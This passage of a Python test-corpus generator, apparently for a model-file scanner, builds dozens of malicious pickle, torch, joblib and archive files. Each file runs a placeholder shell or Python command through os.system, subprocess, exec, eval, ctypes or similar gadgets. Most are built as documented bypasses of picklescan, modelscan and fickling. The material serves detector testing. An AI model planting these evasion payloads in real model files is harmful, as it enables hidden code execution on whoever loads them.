        expect=["unverified", "malicious"])

    # ---- 8. oldest torch tar format
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    t = tar_build([("sys_info", sysinfo), ("storages", P2), ("tensors", pickle.dumps(0, protocol=2)),
                   ("pickle", pickle.dumps({}, protocol=2))])
    mal("t08-torch-tar-legacy.tar", t, 8, "picklescan scan_pytorch 'TODO: implement loading from tar'",
        "Oldest torch tar layout (sys_info/storages/tensors/pickle); 'storages' (unpickled first) is os.system.")
    mal("t08-torch-tar-named.pt", t, 8, "picklescan tar TODO", "Same tar under a .pt name.")

    # ---- 9. legacy stacked pickles, payload in the 4th
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    pv = pickle.dumps(1001, protocol=2)
    keys = pickle.dumps([], protocol=2)
    mal("t09-legacy-payload-4th-pickle.pt", magic + pv + sysinfo + P2 + keys, 9, "modelscan scans one pickle only",
        "Legacy torch stream: magic, protocol, sys_info, then the 4th pickle (the object) is os.system.")
    mal("t09-legacy-payload-5th-pickle.pt", magic + pv + sysinfo + pickle.dumps({}, protocol=2) + P2, 9,
        "modelscan scans one pickle only", "Legacy stream whose 5th pickle (storage keys) is os.system.")

    # ---- 10. the magic-number pickle executes
    evalmagic = wrap(call(g("builtins", "eval"), PYCMD + " or 0x1950a86a20f9469cfc6c"))
    check_pickle(evalmagic)
    mal("t10-magic-number-executes.pt", evalmagic + pv + sysinfo + pickle.dumps({}, protocol=2) + keys, 10,
        "GHSA-97f8-7cmv-76j2 (picklescan #64)",
        "First pickle of a legacy stream is eval(\"... or MAGIC\"): returns the magic number after running code.")

    # ---- 11. raw pickle named .bin/.pt
    mal("t11-raw-pickle-named.bin", P2, 11, "CVE-2025-10155", "Raw pickle named pytorch_model.bin-style .bin.")
    mal("t11-raw-pickle-named.pt", wrap(call(g("subprocess", "check_output"), ["sh", "-c", CMD]), 2), 11,
        "CVE-2025-10155", "Raw pickle named .pt (torch legacy path); subprocess.check_output.")

    # ---- 12. compressed joblib
    evil_joblib = joblib_like_dump([np.arange(4, dtype=np.float32), _EvilReduce(os.system, (CMD,))])
    wrappers = {"zlib": (zlib.compress(evil_joblib, 3), "t12-joblib-zlib.joblib"),
                "gzip": (gzip.compress(evil_joblib, 3, mtime=0), "t12-joblib-gzip.pkl"),
                "bz2": (bz2.compress(evil_joblib, 3), "t12-joblib-bz2.joblib"),
                "xz": (lzma.compress(evil_joblib, format=lzma.FORMAT_XZ), "t12-joblib-xz.bin"),
                "lzma": (lzma.compress(evil_joblib, format=lzma.FORMAT_ALONE), "t12-joblib-lzma.joblib"),
                "lz4": (lz4_frame_stored(evil_joblib), "t12-joblib-lz4.joblib")}
    for k, (data, name) in wrappers.items():
        extra = (" LZ4 frame written by hand (stored blocks, xxh32 header checksum): the lz4 module is not "
                 "installed." if k == "lz4" else "")
        # ModelGate has no decoder for the legacy .lzma ("alone") format: it must say "could not verify".
        expect = ["malicious", "unverified"] if k == "lzma" else M
        mal(name, data, 12, "research §4.12 (joblib compressors)",
            f"{k}-compressed joblib-format stream: array (NumpyArrayWrapper + raw bytes) then posix.system."
            + extra, expect=expect)

    # ---- 13. nested archives
    inner = torch_zip(P2)
    mal("t13-zip-in-zip.zip", zip_build([dict(name="checkpoints/model.pt", data=inner, method=8)]), 13,
        "modelscan NestedZipError (research §4.13)", "Outer zip → inner torch zip → data.pkl os.system.")
    mal("t13-zip-in-zip-in-zip.zip",
        zip_build([dict(name="a.zip", data=zip_build([dict(name="b/model.pt", data=inner)]))]), 13,
        "research §4.13", "Three levels: zip → zip → torch zip → os.system.")
    mal("t13-gzip-tar-pickle.tar.gz", gzip.compress(tar_build([("model/weights.pkl", P2)]), mtime=0), 13,
        "research §4.13", "gzip → tar → raw pickle.")

    # ---- 14. payload after joblib raw array bytes
    mal("t14-joblib-payload-after-array.joblib", evil_joblib, 14, "research §4.14",
        "Uncompressed joblib stream: NumpyArrayWrapper BUILD, padding byte + 0xff padding + raw float32 bytes, "
        "THEN the pickle continues with posix.system (linear parsers stop at 0xff).")
    big = joblib_like_dump({"a": np.full((64,), -1.0, dtype=np.float64), "b": np.arange(8, dtype=np.int64),
                            "c": _EvilReduce(os.system, (CMD,))})
    mal("t14-joblib-two-arrays-then-payload.pkl", big, 14, "research §4.14",
        "Two arrays (raw bytes full of 0xff/0xbf) embedded mid-stream, payload after the second.")

    # ---- 15. npy object arrays / npz members
    npy_evil = npy_header("|O", (1,)) + P2
    mal("t15-npy-object-array.npy", npy_evil, 15, "picklescan #11/#32",
        ".npy with dtype object: the data section is a pickle (os.system).")
    npz = zip_build([dict(name="weights.npy", data=_np_bytes(np.arange(4, dtype=np.float32))),
                     dict(name="meta.npy", data=npy_header("|O", (2,)) + wrap(call(g("builtins", "exec"), PYCMD), 2))])
    mal("t15-npz-member-payload.npz", npz, 15, "picklescan #11/#32",
        ".npz: benign weights.npy + meta.npy object array whose pickle calls builtins.exec.")

    # ---- 16. broken tail after payload
    mal("t16-broken-tail-after-payload.pkl", P2[:-1] + b"\xff\xff\xff garbage", 16, "nullifAI; picklescan #33",
        "os.system REDUCE, then invalid opcodes and no STOP: the loader runs the call before failing.")
    mal("t16-truncated-after-payload.bin", proto(2) + call(g("os", "system"), CMD) + su("tail") + b"X\xff\xff", 16,
        "nullifAI", "Payload then a BINUNICODE whose length runs past the end of file.")

    # ---- 17. FRAME boundary differential
    body = sg("os", "system") + su(CMD) + b"\x85" + REDUCE + STOP
    cut = 7  # frame ends inside the bytes of the SHORT_BINUNICODE 'system' operand
    framed = proto(4) + b"\x95" + struct.pack("<Q", cut) + body
    mal("t17-frame-ends-mid-opcode.pkl", framed, 17,
        "fickling test_frame_boundary_divergence; cpython issue 154848",
        "FRAME length 7 ends inside the string bytes of SHORT_BINUNICODE 'system': the pure-Python "
        "unpickler raises 'pickle exhausted before end of frame', the C unpickler (pickle.load) treats FRAME as a "
        "prefetch hint and runs os.system. Framed and linear reads disagree.")
    body2 = su("posix") + su("system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP
    framed2 = proto(4) + b"\x95" + struct.pack("<Q", len(body2) + 40) + body2
    mal("t17-frame-longer-than-stream.pkl", framed2, 17, "fickling FRAME checks",
        "FRAME declares 40 bytes more than the file holds: the C unpickler fails before running it, the "
        "pure-Python unpickler (pickle._Unpickler, which joblib's NumpyUnpickler subclasses) runs posix.system.")

    # ---- 18. memo tricks
    m1 = proto(4) + su("os") + binput(1) + su("system") + binput(2) + POP + POP + binget(1) + binget(2) + \
        STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP
    check_pickle(m1)
    mal("t18-memo-binput-binget-stack-global.pkl", m1, 18, "picklescan #10/#16/#23",
        "STACK_GLOBAL operands pushed, BINPUT, POPped, then recovered with BINGET.")
    m2 = proto(4) + su("os") + b"r" + struct.pack("<I", 100_000) + su("system") + b"r" + struct.pack("<I", 7) + \
        POP + POP + b"j" + struct.pack("<I", 100_000) + b"j" + struct.pack("<I", 7) + STACK_GLOBAL + \
        su(CMD) + TUPLE1 + REDUCE + STOP
    check_pickle(m2)
    mal("t18-memo-long-binput-sparse-keys.pkl", m2, 18, "picklescan #52",
        "LONG_BINPUT/LONG_BINGET with sparse memo keys 100000 and 7 (not 0,1,…) around STACK_GLOBAL.")
    m3 = proto(4) + b"S'os'\n" + b"S'system'\n" + STACK_GLOBAL + b"S'" + CMD.encode() + b"'\n" + TUPLE1 + REDUCE + STOP
    check_pickle(m3)
    mal("t18-string-opcode-stack-global.pkl", m3, 18, "picklescan #46 (2025-08)",
        "STACK_GLOBAL operands pushed with the protocol-0 STRING opcode, which some backward walks ignore.")
    m4 = b"V" + CMD.encode() + b"\np0\n" + b"0" + b"cos\nsystem\np1\n" + b"0" + b"g1\n(g0\ntR."
    check_pickle(m4)
    mal("t18-memo-proto0-put-get.pkl", m4, 18, "picklescan #10",
        "Protocol 0: PUT/GET text memo; the callable is stored, POPped, and fetched back before REDUCE.")

    # ---- 19. DUP; MEMOIZE
    m5 = proto(4) + su("os") + DUP + MEMOIZE + POP + POP + su("system") + DUP + MEMOIZE + POP + POP + \
        binget(0) + binget(1) + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP
    check_pickle(m5)
    mal("t19-dup-memoize.pkl", m5, 19, "research §4.19 (picklescan clean, modelscan crash)",
        "'os' DUP MEMOIZE POP POP, same for 'system': the memo holds the stack top, not the previous opcode's "
        "argument (None); BINGET 0/1 + STACK_GLOBAL = os.system.")

    # ---- 20. popped calls
    pobj = proto(2) + MARK + g("os", "system") + su(CMD) + OBJ + POP + lit({"w": 1.0}) + STOP
    check_pickle(pobj)
    mal("t20-popped-obj-call.pkl", pobj, 20, "fickling GHSA-mxhj-88fx-4pcv",
        "OBJ calls os.system(cmd); the result is POPped and the pickle returns a benign dict.")
    pred = proto(2) + call(g("os", "system"), CMD) + POP + lit([1, 2, 3]) + STOP
    mal("t20-popped-reduce-call.pkl", pred, 20, "fickling GHSA-mxhj-88fx-4pcv",
        "REDUCE whose result is POPped; returns a list.")
    pnew = proto(4) + sg("subprocess", "Popen") + lit((["sh", "-c", CMD],)) + NEWOBJ + POP + \
        sg("subprocess", "Popen") + EMPTY_TUPLE + lit({"args": CMD}) + NEWOBJ_EX + POP + NONE + STOP
    check_pickle(pnew)
    mal("t20-popped-newobj-ex.pkl", pnew, 20, "fickling GHSA-mxhj-88fx-4pcv",
        "NEWOBJ and NEWOBJ_EX on subprocess.Popen, results POPped. (The loader only calls Popen.__new__; flagged "
        "because a process class is reached.)")

    # ---- 21. calls without REDUCE
    inst = b"(V" + CMD.encode() + b"\nios\nsystem\n."
    check_pickle(inst)
    mal("t21-inst-call.pkl", inst, 21, "picklescan #21", "Protocol-0 INST os.system (no REDUCE, no PROTO).")
    objc = proto(1) + MARK + g("subprocess", "getoutput") + bu(CMD) + OBJ + STOP
    mal("t21-obj-call.pkl", objc, 21, "picklescan #21", "OBJ calling subprocess.getoutput.")
    bset = proto(2) + call(g("collections", "OrderedDict")) + EMPTY_DICT + su("__setstate__") + g("os", "system") + \
        SETITEM + BUILD + su(CMD) + BUILD + STOP
    check_pickle(bset)
    mal("t21-build-setstate-callable.pkl", bset, 21, "Balsn CTF pyshv write-ups (HF pickle docs)",
        "BUILD puts __setstate__=os.system into an OrderedDict instance's __dict__; a second BUILD calls it.")

    # ---- 22. analyser crashes / DoS
    f0 = b"F1.5\n0" + p0
    check_pickle(f0)
    mal("t22-proto0-float-then-payload.pkl", f0, 22, "fickling crash on protocol-0 FLOAT (research §4.22)",
        "Protocol-0 FLOAT, POP, then os.system (no PROTO).")
    ba = proto(5) + b"\x96" + struct.pack("<Q", 4) + b"abcd" + POP + call(g("os", "system"), CMD) + STOP
    check_pickle(ba)
    mal("t22-bytearray8-then-payload.pkl", ba, 22, "fickling crash on BYTEARRAY8", "Protocol 5 BYTEARRAY8 then os.system.")
    bomb = bytearray(proto(2) + EMPTY_LIST + binput(0) + POP)
    for i in range(60):
        bomb += binget(i) + binget(i) + TUPLE2 + binput(i + 1) + POP
    bomb += call(g("os", "system"), CMD) + STOP
    check_pickle(bytes(bomb))
    mal("t22-memo-expansion-bomb.pkl", bytes(bomb), 22, "fickling ExpansionAttackAnalysis",
        "60 rounds of memo[i+1]=(memo[i],memo[i]): 2^60 leaves if expanded naively, trivial for the VM; then os.system.")
    pad = b"\x8d" + struct.pack("<Q", 80_000) + b" " * 80_000
    mal("t22-huge-binunicode8-padding.pkl", proto(4) + pad + POP + call(sg("os", "system"), CMD) + STOP, 22,
        "research §4.22", "80 KB BINUNICODE8 padding string, POPped, then os.system.")
    zeros = b"\0" * (48 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(zeros) + co.flush()
    bomb_zip = _zip_with_bomb(comp, len(zeros), zlib.crc32(zeros) & 0xFFFFFFFF, P2)
    mal("t22-zip-bomb-then-payload.pt", bomb_zip, 22, "research §4.22 / §5.8 (decompression budget)",
        f"archive/data/0 inflates {len(zeros) >> 20} MiB from {len(comp)} bytes; data.pkl after it is os.system.")

    # ---- 23. module aliases
    aliases = [("posix", "system", (CMD,), "posix.system"), ("nt", "system", (CMD,), "nt.system"),
               ("__builtin__", "eval", (PYCMD,), "__builtin__.eval (py2 name, mapped by fix_imports)"),
               ("_io", "FileIO", ("/tmp/modelgate-test.txt", "w"), "_io.FileIO opens a file for writing"),
               ("_posixsubprocess", "fork_exec", (), "_posixsubprocess.fork_exec (private process spawner)")]
    for mod, name, args, note in aliases:
        mal(f"t23-alias-{mod.strip('_')}-{name.lower()}.pkl", wrap(call(g(mod, name), *args)), 23,
            "picklescan #54, GHSA-9726-w42j-3qjr", note)
    op = proto(2) + call(call(g("_operator", "attrgetter"), "system"),
                         Raw(call(g("importlib", "import_module"), "os"))) + su(CMD) + TUPLE1 + REDUCE + STOP
    check_pickle(op)
    mal("t23-alias-operator-attrgetter.pkl", op, 23, "GHSA-9726-w42j-3qjr",
        "_operator.attrgetter('system')(importlib.import_module('os'))(cmd).")

    # ---- 24. dotted names
    for mod, name, note, src in (
            ("torch", "os.system", "STACK_GLOBAL('torch','os.system')", "modelscan #338"),
            ("glob", "os.system", "STACK_GLOBAL('glob','os.system')", "fickling GHSA-5j3x-jp52-966f"),
            ("torch.library", "torch.utils.collect_env.run", "torch.library + torch.utils.collect_env.run",
             "fickling GHSA-5j3x-jp52-966f"),
            ("numpy", "testing._private.utils.os.system", "allowlisted-looking root, dotted into os", "modelscan #338")):
        body = proto(4) + sg(mod, name) + su(CMD) + TUPLE1 + REDUCE + STOP
        check_pickle(body)
        mal(f"t24-dotted-{mod.replace('.', '-')}-{name.split('.')[-2]}-{name.split('.')[-1]}.pkl", body, 24, src, note)
    mal("t24-dotted-inside-torch-zip.pt", torch_zip(proto(4) + sg("torch", "os.system") + su(CMD) + TUPLE1 + REDUCE + STOP),
        24, "modelscan #338", "Dotted torch→os.system inside a torch zip's data.pkl.")

    # ---- 25. resolver gadgets
    r1 = proto(2) + call(call(g("pkgutil", "resolve_name"), "os:system"), CMD) + STOP
    mal("t25-pkgutil-resolve-name.pkl", r1, 25, "GHSA-vvpj-8cmc-gx39", "pkgutil.resolve_name('os:system')(cmd).")
    r2 = proto(2) + call(call(g("inspect", "getattr_static"), Raw(call(g("importlib", "import_module"), "os")), "system"),
                         CMD) + STOP
    mal("t25-importlib-getattr-static.pkl", r2, 25, "HF xry6/huntr-picklescan-bypass-poc",
        "inspect.getattr_static(importlib.import_module('os'),'system')(cmd).")
    r3 = proto(2) + call(call(g("operator", "methodcaller"), "system", CMD), Raw(call(g("pydoc", "locate"), "os"))) + STOP
    mal("t25-pydoc-locate-methodcaller.pkl", r3, 25, "GHSA-84r2-jw7c-4r5q",
        "operator.methodcaller('system', cmd)(pydoc.locate('os')).")
    r4 = proto(4) + call(call(sg("builtins", "dict.get"), Raw(call(g("builtins", "vars"),
                                                                   Raw(call(g("builtins", "__import__"), "os")))),
                              "system"), CMD) + STOP
    check_pickle(r4)
    mal("t25-builtins-import-vars-dict-get.pkl", r4, 25, "research §4.25",
        "dict.get(vars(__import__('os')),'system')(cmd) — none of the three names is on picklescan's list.")

    # ---- 26. stdlib exec and process gadgets (+ the basic families)
    gad26 = [
        ("os", "system", (CMD,), "os.system", "baseline"),
        ("os", "popen", (CMD,), "os.popen", "baseline"),
        ("os", "execvp", ("sh", ["sh", "-c", CMD]), "os.execvp", "baseline"),
        ("subprocess", "Popen", (["sh", "-c", CMD],), "subprocess.Popen", "baseline"),
        ("subprocess", "run", (CMD,), "subprocess.run", "baseline"),
        ("builtins", "exec", (PYCMD,), "builtins.exec", "baseline"),
        ("builtins", "eval", (PYCMD,), "builtins.eval", "baseline"),
        ("builtins", "open", ("/tmp/modelgate-test.txt", "w"), "builtins.open for writing", "baseline"),
        ("runpy", "_run_code", (PYCMD, {}), "runpy._run_code", "research §4.26"),
        ("cProfile", "run", (PYCMD,), "cProfile.run", "research §4.26"),
        ("profile", "run", (PYCMD,), "profile.run", "research §4.26"),
        ("timeit", "timeit", (PYCMD, "pass", Raw(g("time", "perf_counter")), 1), "timeit.timeit(stmt)", "research §4.26"),
        ("doctest", "debug_script", (PYCMD,), "doctest.debug_script", "research §4.26"),
        ("uuid", "_get_command_stdout", ("sh", "-c", CMD), "uuid._get_command_stdout", "research §4.26"),
        ("_osx_support", "_read_output", (CMD,), "_osx_support._read_output", "research §4.26"),
        ("_aix_support", "_read_cmd_output", (CMD,), "_aix_support._read_cmd_output", "research §4.26"),
        ("imaplib", "IMAP4_stream", (CMD,), "imaplib.IMAP4_stream spawns a command", "research §4.26"),
        ("pty", "spawn", (["sh", "-c", CMD],), "pty.spawn", "research §4.26"),
        ("venv", "create", ("/tmp/modelgate-test-venv", False, False, False, True), "venv.create(with_pip)",
         "research §4.26"),
        ("ensurepip", "bootstrap", ("/tmp/modelgate-test-root",), "ensurepip.bootstrap", "research §4.26"),
        ("pip", "main", (["install", "modelgate-test"],), "pip.main", "CVE-2025-1716"),
        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ["sh", "-c", CMD], ()),
         "multiprocessing.util.spawnv_passfds", "research §4.26"),
        ("numpy.testing._private.utils", "runstring", (PYCMD, {}), "numpy.testing runstring (exec)",
         "research §4.26"),
        ("numpy.f2py.crackfortran", "myeval", (PYCMD,), "numpy.f2py.crackfortran.myeval (eval)",
         "GHSA-r8g5-cgf2-4m4m"),
        ("webbrowser", "open", ("http://127.0.0.1:9/modelgate-test",), "webbrowser.open starts a process",
         "research §4.26"),
    ]
    for mod, name, args, note, src in gad26:
        data = wrap(call(g(mod, name), *args))
        check_pickle(data)
        mal(f"t26-{mod.replace('.', '-').strip('_').lower()}-{name.strip('_').lower()}.pkl", data, 26, src, note)
    # instance-method gadgets
    bdb = proto(4) + call(sg("bdb", "Bdb.run"), Raw(call(g("bdb", "Bdb"))), PYCMD) + STOP
    check_pickle(bdb)
    mal("t26-bdb-bdb-run.pkl", bdb, 26, "research §4.26", "bdb.Bdb.run(bdb.Bdb(), code) via dotted STACK_GLOBAL.")
    ii = proto(4) + call(sg("code", "InteractiveInterpreter.runsource"), Raw(call(g("code", "InteractiveInterpreter"))),
                         PYCMD) + STOP
    mal("t26-code-interactiveinterpreter.pkl", ii, 26, "research §4.26",
        "code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src).")
    tr = proto(4) + call(sg("trace", "Trace.run"), Raw(call(g("trace", "Trace"))), PYCMD) + STOP
    mal("t26-trace-run.pkl", tr, 26, "research §4.26", "trace.Trace.run(trace.Trace(), src).")
    asy = proto(2) + call(g("asyncio", "run"), Raw(call(g("asyncio", "create_subprocess_shell"), CMD))) + STOP
    mal("t26-asyncio-subprocess-shell.pkl", asy, 26, "GHSA-f7qq-56ww-84cr",
        "asyncio.run(asyncio.create_subprocess_shell(cmd)).")
    ct = proto(2) + call(call(g("builtins", "getattr"), Raw(call(g("ctypes", "CDLL"), None)), "system"),
                         CMD.encode()) + STOP
    mal("t26-ctypes-cdll-system.pkl", ct, 26, "GHSA-4675-36f9-wf6r", "getattr(ctypes.CDLL(None),'system')(b'echo ...').")
    gi = proto(2) + call(call(g("builtins", "getattr"), Raw(call(g("builtins", "__import__"), "os")), "system"), CMD) + STOP
    mal("t26-builtins-getattr-import.pkl", gi, 26, "baseline",
        "getattr(__import__('os'),'system')(cmd): the canonical chain.")
    code_obj = compile(PYCMD, "<modelgate-test>", "exec")
    ml = proto(2) + call(call(g("types", "FunctionType"), Raw(call(g("marshal", "loads"), marshal.dumps(code_obj))), {})) + STOP
    mal("t26-marshal-functiontype.pkl", ml, 26, "GHSA-9m3x-qqw2-h32h",
        f"types.FunctionType(marshal.loads(<py{sys.version_info.major}.{sys.version_info.minor} bytecode>), {{}})().")
    ctargs = (code_obj.co_argcount, code_obj.co_posonlyargcount, code_obj.co_kwonlyargcount, code_obj.co_nlocals,
              code_obj.co_stacksize, code_obj.co_flags, code_obj.co_code, code_obj.co_consts, code_obj.co_names,
              code_obj.co_varnames, code_obj.co_filename, code_obj.co_name, code_obj.co_qualname,
              code_obj.co_firstlineno, code_obj.co_linetable, code_obj.co_exceptiontable, (), ())
    cty = proto(2) + call(call(g("types", "FunctionType"), Raw(call(g("types", "CodeType"), *ctargs)), {})) + STOP
    mal("t26-types-codetype.pkl", cty, 26, "GHSA-9m3x-qqw2-h32h (cloudpickle style)",
        "types.FunctionType(types.CodeType(<args for CPython 3.11>), {})().")
    it = proto(2) + call(g("_xxsubinterpreters", "run_string"), Raw(call(g("_xxsubinterpreters", "create"))), PYCMD) + STOP
    mal("t26-xxsubinterpreters-run-string.pkl", it, 26, "fickling GHSA-6ggj-6f2q-f7mx",
        "_xxsubinterpreters.run_string(create(), src) (3.11 name).")
    it2 = proto(2) + call(g("_interpreters", "exec"), Raw(call(g("_interpreters", "create"))), PYCMD) + STOP
    mal("t26-interpreters-exec.pkl", it2, 26, "fickling GHSA-6ggj-6f2q-f7mx", "_interpreters.exec(create(), src) (3.13 name).")

    # ---- 27. ML-library gadgets
    gad27 = [
        ("torch.utils.collect_env", "run", (CMD,), "torch.utils.collect_env.run", "picklescan #47"),
        ("torch._inductor.codecache", "compile_file", ("/tmp/a.cpp", "/tmp/a.so", ["sh", "-c", CMD]),
         "torch._inductor.codecache.compile_file (subprocess)", "picklescan #47"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (PYCMD, {}, {}), "torch.jit execWrapper (exec)",
         "picklescan #47"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (PYCMD, []),
         "torch.fx symbolic_shapes guard eval", "picklescan #47"),
        ("torch._dynamo.guards", "GuardBuilder", (PYCMD,), "torch._dynamo guards", "picklescan #47"),
        ("mlflow.projects.backend.local", "_run_entry_point", (CMD, "/tmp", "0", "0"),
         "mlflow _run_entry_point runs a shell command", "modelscan #338"),
    ]
    for mod, name, args, note, src in gad27:
        fn = sg(mod, name) if "." in name else g(mod, name)
        data = (proto(4) if "." in name else proto(2)) + call(fn, *args) + STOP
        check_pickle(data)
        mal(f"t27-{mod.split('.')[-1].strip('_').lower()}-{name.split('.')[-1].strip('_').lower()}.pkl", data, 27,
            src, note)
    pd = wrap(call(g("pandas", "read_csv"), "http://127.0.0.1:9/modelgate-test.csv"))
    mal("t27-pandas-read-csv-url.pkl", pd, 27, "modelscan #338",
        "pandas.read_csv(URL): network fetch/exfiltration; not code execution, so suspicious is acceptable.",
        expect=MS)
    mal("t27-collect-env-in-torch-zip.pt", torch_zip(wrap(call(g("torch.utils.collect_env", "run"), CMD))), 27,
        "picklescan #47", "torch.utils.collect_env.run inside a torch zip.")

    # ---- 28. side effects without code exec
    gad28 = [
        ("logging", "FileHandler", ("/tmp/modelgate-test.log",), "logging.FileHandler creates a file",
         "CVE-2026-56304"),
        ("distutils.file_util", "write_file", ("/tmp/modelgate-test.txt", ["modelgate-test"]),
         "distutils.file_util.write_file", "GHSA-m273-6v24-x4m4"),
        ("socket", "create_connection", (("127.0.0.1", 9),), "socket.create_connection", "research §4.28"),
        ("urllib.request", "urlopen", ("http://127.0.0.1:9/modelgate-test",), "urllib.request.urlopen",
         "research §4.28"),
        ("shutil", "copyfile", ("/etc/hostname", "/tmp/modelgate-test.txt"), "shutil.copyfile writes a file",
         "research §4.28"),
        ("shutil", "rmtree", ("/tmp/modelgate-test-dir",), "shutil.rmtree deletes files", "research §4.28"),
    ]
    for mod, name, args, note, src in gad28:
        data = wrap(call(g(mod, name), *args))
        check_pickle(data)
        mal(f"t28-{mod.split('.')[-1]}-{name.lower()}.pkl", data, 28, src, note)
    hs = wrap(call(g("http.server", "HTTPServer"), ("127.0.0.1", 0), Raw(g("http.server", "SimpleHTTPRequestHandler"))))
    mal("t28-http-server-bind.pkl", hs, 28, "HF graded 'Suspicious' (research §4.28)",
        "http.server.HTTPServer(('127.0.0.1',0), SimpleHTTPRequestHandler) binds a socket serving files.")

    # ---- 29. attribute gadget inside an allowlisted module
    ng = proto(2) + g("numpy", "size") + binput(0) + EMPTY_DICT + su("shape") + g("numpy", "__builtins__") + \
        SETITEM + BUILD + POP + binget(0) + MARK + binget(0) + su("eval") + TUPLE + REDUCE + \
        su(PYCMD) + TUPLE1 + REDUCE + STOP
    check_pickle(ng)
    mal("t29-numpy-builtins-build.pkl", ng, 29, "modelscan #330",
        "BUILD sets numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size,'eval') returns eval; eval(src).")
    nd = proto(4) + sg("numpy", "__builtins__.get") + MARK + su("exec") + TUPLE + REDUCE + su(PYCMD) + TUPLE1 + \
        REDUCE + STOP
    mal("t29-numpy-dunder-dotted.pkl", nd, 29, "modelscan #330",
        "STACK_GLOBAL('numpy','__builtins__.get')('exec')(src): dunder path through an allowlisted module.")
    tt = proto(4) + sg("torch", "_utils.__builtins__.get") + MARK + su("eval") + TUPLE + REDUCE + su(PYCMD) + TUPLE1 + \
        REDUCE + STOP
    mal("t29-torch-utils-dunder.pkl", tt, 29, "scanner requirement: torch utility dunders",
        "torch._utils.__builtins__['eval'] via a dotted name rooted in the torch allowlist.")

    # ---- 30. pickle-in-pickle
    inner_p = wrap(call(g("os", "system"), CMD))
    for mod, name, note in (("pickle", "loads", "pickle.loads(bytes)"), ("_pickle", "loads", "_pickle.loads(bytes)"),
                            ("torch.storage", "_load_from_bytes", "torch.storage._load_from_bytes(bytes) → torch.load")):
        data = wrap(call(g(mod, name), inner_p), 3)
        check_pickle(data)
        mal(f"t30-{mod.replace('.', '-')}-{name.strip('_').lower()}.pkl".replace("--", "-").replace("t30-_", "t30-c"), data, 30, "picklescan #25/#47",
            note + "; inner bytes are an os.system pickle.")
    cfg = proto(4) + call(sg("torch._inductor.config", "load_config"), inner_p) + STOP
    mal("t30-configmodule-load-config.pkl", cfg, 30, "picklescan #47",
        "torch._inductor.config.load_config(bytes) (ConfigModule.load_config → pickle.loads).")
    nested2 = wrap(call(g("pickle", "loads"), wrap(call(g("pickle", "loads"), wrap(call(g("builtins", "exec"), PYCMD), 3)), 3)), 3)
    mal("t30-pickle-loads-two-levels.pkl", nested2, 30, "picklescan #25", "pickle.loads(pickle.loads(exec pickle)).")
    benign_outer = torch_zip(wrap(call(g("torch.storage", "_load_from_bytes"), inner_p), 3))
    mal("t30-load-from-bytes-in-torch-zip.pt", benign_outer, 30, "picklescan #47",
        "Torch zip whose data.pkl calls torch.storage._load_from_bytes on an os.system pickle.")

    # ---- 31. exception-oriented (file-level approximation)
    eop = proto(2) + call(g("os", "system"), CMD) + POP + call(g("builtins", "int"), "not-a-number") + STOP
    mal("t31-exception-after-payload.pkl", eop, 31, "arXiv 2508.19774 (Exception-Oriented Programming)",
        "File-level approximation: payload call, then int('not-a-number') raises so the load 'fails' after "
        "the code ran (the paper's loading paths are app-level and not reproducible as a file).")

    # ---- 32. safe-load then fallback (non-allowlisted global forces weights_only=False)
    unknown = proto(2) + g("mymodels.layers", "CustomBlock") + EMPTY_TUPLE + NEWOBJ + \
        lit({"hidden": 8, "name": "block"}) + BUILD + STOP
    check_pickle(unknown)
    mal("t32-unknown-global.pt", torch_zip(unknown), 32, "Stanza advisory (research §4.32)",
        "Torch zip whose data.pkl instantiates a non-allowlisted class mymodels.layers.CustomBlock (no gadget): "
        "weights_only refuses it, apps then retry unsafe → suspicious.", expect="suspicious")
    ns = wrap(call(g("argparse", "Namespace")) + lit({"lr": 0.1}) + BUILD)
    mal("t32-argparse-namespace.pkl", ns, 32, "research §4.32",
        "argparse.Namespace with a dict state: the loader only restores attributes → benign.", expect="benign")
    mix = proto(2) + MARK + call(g("mymodels.layers", "CustomBlock")) + call(g("os", "system"), CMD) + TUPLE + STOP
    mal("t32-unknown-global-plus-payload.pt", torch_zip(mix), 32, "Stanza advisory",
        "Non-allowlisted class (forces the unsafe fallback) and os.system in the same data.pkl.")

    # ---- 33. weights_only loader bugs
    ts_code = ("def forward(self, x: Tensor) -> Tensor:\n"
               "    torch.save(x, \"/tmp/modelgate-test.pt\")\n    return x\n")
    const = pickle.dumps((), protocol=2)
    ts = zip_build([dict(name="archive/data.pkl", data=wrap(call(g("__torch__", "Model"))+b"", 2)),
                    dict(name="archive/constants.pkl", data=const),
                    dict(name="archive/code/__torch__.py", data=("class Model(Module):\n  __parameters__ = []\n" +
                                                                  "  " + ts_code.replace("\n", "\n  ")).encode()),
                    dict(name="archive/code/__torch__.py.debug_pkl", data=pickle.dumps((), protocol=2)),
                    dict(name="archive/version", data=b"3\n")])
    mal("t33-torchscript-archive-code.pt", ts, 33, "CVE-2025-32434 / GHSA-53q9-r3pm-6pq6",
        "TorchScript-like archive (constants.pkl + code/__torch__.py whose forward writes a file): torch.load "
        "(weights_only=True, ≤2.5.1) ran it via torch.jit. Code members must be listed; not benign.", expect=MS)
    rebuild = g("torch._utils", "_rebuild_tensor_v2")
    pers = MARK + su("storage") + g("torch", "FloatStorage") + su("0") + su("cpu") + lit(1 << 30) + TUPLE + b"Q"
    t_ops = rebuild + MARK + pers + lit(0) + lit((4,)) + lit((1,)) + b"\x89" + call(g("collections", "OrderedDict")) + \
        TUPLE + REDUCE
    setit = proto(2) + t_ops + lit(0) + lit(1.0) + SETITEM + STOP
    check_pickle(setit)
    mal("t33-setitem-on-tensor-size-mismatch.pt",
        torch_zip(setit, extra=[dict(name="archive/data/0", data=b"\0" * 16)]), 33,
        "CVE-2026-24747 / GHSA-63cw-57p8-fm3p",
        "Allowlisted globals only, but SETITEM applied to a tensor (non-dict) and a storage declaring 2^30 "
        "elements backed by 16 bytes (memory corruption in torch <2.10). Not benign; malicious or invalid.",
